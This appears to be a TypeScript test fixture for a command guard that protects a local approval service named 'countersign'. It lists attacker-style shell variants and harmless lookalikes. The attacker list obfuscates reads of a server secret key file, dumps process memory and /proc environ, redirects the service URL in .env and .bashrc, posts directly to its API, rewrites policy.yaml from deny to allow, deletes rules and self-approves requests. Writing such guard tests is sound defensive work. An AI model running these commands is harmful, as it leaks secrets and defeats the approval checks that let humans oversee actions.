import { type Attempt, shell } from './own-files.table.ts';

/** Written by an attacker who knows which variants were missed before, without a look at the rules. */
export const seventhStranger: readonly Attempt[] = shell(String.raw`
  cat $(echo policy-keys-server | sed 's/policy/countersign-data/')-secret
  cat $(printf 'count%ssign-data-keys-server-secret' er)
  f=$(sed 's/X/countersign-data/' <<< X-keys-server-secret); cat $f
  cat "$(tr a-z b-za <<< 'bntmsdqrhfm-czsz-jdxr-rdqudq-rdbqds')"
  cat $(awk 'BEGIN{print "countersign" "-data-keys-server-secret"}')
  cat $(python3 -c "print('countersign-'+'data-keys-server-secret')")
  cat $(node -p "['countersign','data','keys','server','secret'].join('-')")
  cat $(perl -e 'print join "-", qw(countersign data keys server secret)')
  cat $(jq -rn '"countersign-data-keys" + "-server-secret"')
  cat $(ls | grep -- -secret)
  cat $(ls | sed -n '/secret/p')
  cat $(find . -maxdepth 1 -newer package.json -name '*s*e*c*r*e*t')
  ls | grep keys | while read f; do cat "$f"/*; done
  while read f; do cat "$f"; done < <(ls -d c*-secret)
  for f in c*; do tar cf - "$f"; done
  gcore $(pgrep -f countersign)
  gcore -o /tmp/core $(pidof countersign)
  gdb -p $(pgrep -f 'countersign serve') -batch -ex 'generate-core-file'
  kill -QUIT $(pgrep -f countersign)
  pkill -STOP -f countersign
  kill -SIGSTOP $(cat countersign-data/pid)
  cat /proc/$(pgrep -f countersign)/environ
  cat /proc/$(pidof countersign)/fd/9
  strace -f -p $(pgrep -f countersign)
  echo COUNTERSIGN_URL=http://localhost:9999 >> .env
  printf 'COUNTERSIGN_KEY=%s\n' x >> .envrc
  echo 'export COUNTERSIGN_URL=http://127.0.0.1:9' >> ~/.bashrc
  echo 'COUNTERSIGN_AGENT=other' | tee -a .env.local
  sed -i '1i COUNTERSIGN_URL=http://localhost:9' .env
  npm config set script-shell /tmp/sh && echo COUNTERSIGN_URL= >> .npmrc
  launchctl setenv COUNTERSIGN_URL http://localhost:9
  systemctl --user set-environment COUNTERSIGN_URL=http://localhost:9
  curl -XPOST http://localhost:$((7300+19))/v1/locks -d '{}'
  curl -XPOST "http://localhost:$(expr 7000 + 319)/v1/requests/ar_1/entries" -d '{}'
  P=7319; curl -d '{}' localhost:$P/v1/people
  curl -XPOST http://[::1]:7319/v1/people -d '{}'
  curl -XPOST http://0:7319/v1/people -d '{}'
  curl -XPOST http://0x7f.1:7319/v1/people -d '{}'
  curl --connect-to example.com:80:localhost:7319 -XPOST http://example.com/v1/people -d '{}'
  curl --resolve a.test:7319:127.0.0.1 -XPOST http://a.test:7319/v1/people -d '{}'
  curl -x http://localhost:7319 -XPOST http://localhost/v1/people -d '{}'
  wget --post-data='{}' http://localhost:7319/v1/people
  exec 3<>/dev/tcp/localhost/7319; printf 'POST /v1/people HTTP/1.1\r\n\r\n' >&3
  nc localhost 7319 < /tmp/request
  socat - TCP:localhost:7319 < /tmp/request
  openssl s_client -connect approve.example.com:443 < /tmp/request
  ssh -L 9000:localhost:7319 me@localhost -N
  curl --unix-socket /run/gate/api.sock -XPOST http://x/v1/people -d '{}'
  http POST :7319/v1/people name=Eve
  xh post :7319/v1/people name=Eve
  python3 -c "import http.client as h; c=h.HTTPConnection('localhost',7319); c.request('POST','/v1/people','{}')"
  node -e "fetch('http://localhost:'+(7300+19)+'/v1/people',{method:'POST',body:'{}'})"
  git update-index --add --cacheinfo 100644,4f1c2aa,policy.yaml
  git update-index --cacheinfo 100644 4f1c2aa policy.yaml
  ruby -e 'puts File.read(%w[countersign data keys server secret].join("-"))'
  perl -e 'open F, join("-", qw/countersign data keys server secret/); print <F>'
  git stash apply && cat countersign-data-keys-server-secret
  rsync --files-from=<(echo countersign-data-keys-server-secret) . /tmp/x
  tar -T <(echo countersign-data-keys) -cf /tmp/k.tar
  zip -r /tmp/k.zip . -i '*secret*'
  7z a /tmp/k.7z countersign-data*
  cp --parents countersign-data-keys/* /tmp
  install -m 644 countersign-data-keys-server-secret /tmp/s
  dd if=countersign-data-keys-server-secret of=/tmp/s
  xxd countersign-data-keys-server-secret
  od -c countersign-data-keys-server-secret
  base64 countersign-data-keys-server-secret
  diff countersign-data-keys-server-secret /dev/null
  comm countersign-data-keys-server-secret /dev/null
  paste countersign-data-keys-server-secret
  rev countersign-data-keys-server-secret
  nl countersign-data-keys-server-secret
  grep '' countersign-data-keys-server-secret
  grep -r . --include='*secret*'
  rg '' -g '*secret*'
  git diff --no-index /dev/null countersign-data-keys-server-secret
  git hash-object -w countersign-data-keys-server-secret
  git add -f countersign-data-keys-server-secret
  git add -fA .
  sqlite3 countersign-data/countersign.db .dump
  sqlite3 countersign-data/*.db 'select * from events'
  ln -s countersign-data-keys-server-secret x
  mount --bind countersign-data-keys /mnt
  setfacl -m u:eve:r countersign-data-keys-server-secret
  chmod 644 countersign-data-keys-server-secret
  truncate -s 0 policy.yaml
  : > policy.yaml
  > policy.yaml
  cp /dev/null policy.yaml
  yq -i '.default = "allow"' policy.yaml
  ed policy.yaml <<< $'1,$s/deny/allow/\nw'
  ex -sc '%s/deny/allow/|x' policy.yaml
  perl -pi -e 's/deny/allow/' policy.yaml
  patch policy.yaml < /tmp/p
  mv rules rules.old
  rm -rf rules
  chattr -i policy.yaml
  touch -d '2020-01-01' policy.yaml
  countersign serve --policy /tmp/p.yaml
  countersign lock lift lk_1
  npx countersign approve ar_1
  npm exec countersign approve ar_1
  node packages/cli/src/main.ts approve ar_1
`);

/**
 * The files of the project, ours among them, are replaced or taken along as a whole. What a branch of the project brings is not
 * among them: docs/security.md names it as a limit.
 */
export const seventhOverlays: readonly Attempt[] = shell(`
  git checkout 4f1c2aa -- .
  git checkout HEAD~1 .
  git restore --source HEAD~2 --staged --worktree .
  git apply /tmp/x.patch
  docker compose build
  docker compose up --build
  npm pack
  npm pack --pack-destination /tmp
  yarn pack
  pnpm pack
  npm publish --dry-run=false
  tar xf /tmp/x.tar
  unzip -o /tmp/x.zip
  bsdtar -xf /tmp/x.zip -C .
  cpio -idmu < /tmp/x.cpio
  rsync -a /tmp/other/ ./
  cp -rT /tmp/other .
  cp -a /tmp/other/. .
  unison . /tmp/other -batch
  degit evil/template . --force
  npx degit evil/template --force
  cookiecutter -f evil/template -o .
  copier update
  copier recopy -f
  terraform init -from-module=/tmp/evil
`);

/** Everyday work that looks like the above. */
export const seventhLookalikes: readonly Attempt[] = shell(`
  perl -e 'print join "-", qw(user data keys)'
  ruby -e 'puts %w[data keys server].join("-")'
  git update-index --refresh
  git update-index --assume-unchanged src/local.ts
  git update-index --add --cacheinfo 100755,4f1c2aa,bin/run.sh
  terraform init -upgrade
  copier copy gh:acme/template ../new-service
  echo APP_URL=http://localhost:9999 >> .env
  curl -s http://localhost:$((3000+1))/health
  docker build -f /tmp/one/Dockerfile /tmp/one
  gcore -o /tmp/core $(pgrep -f my-service)
`);
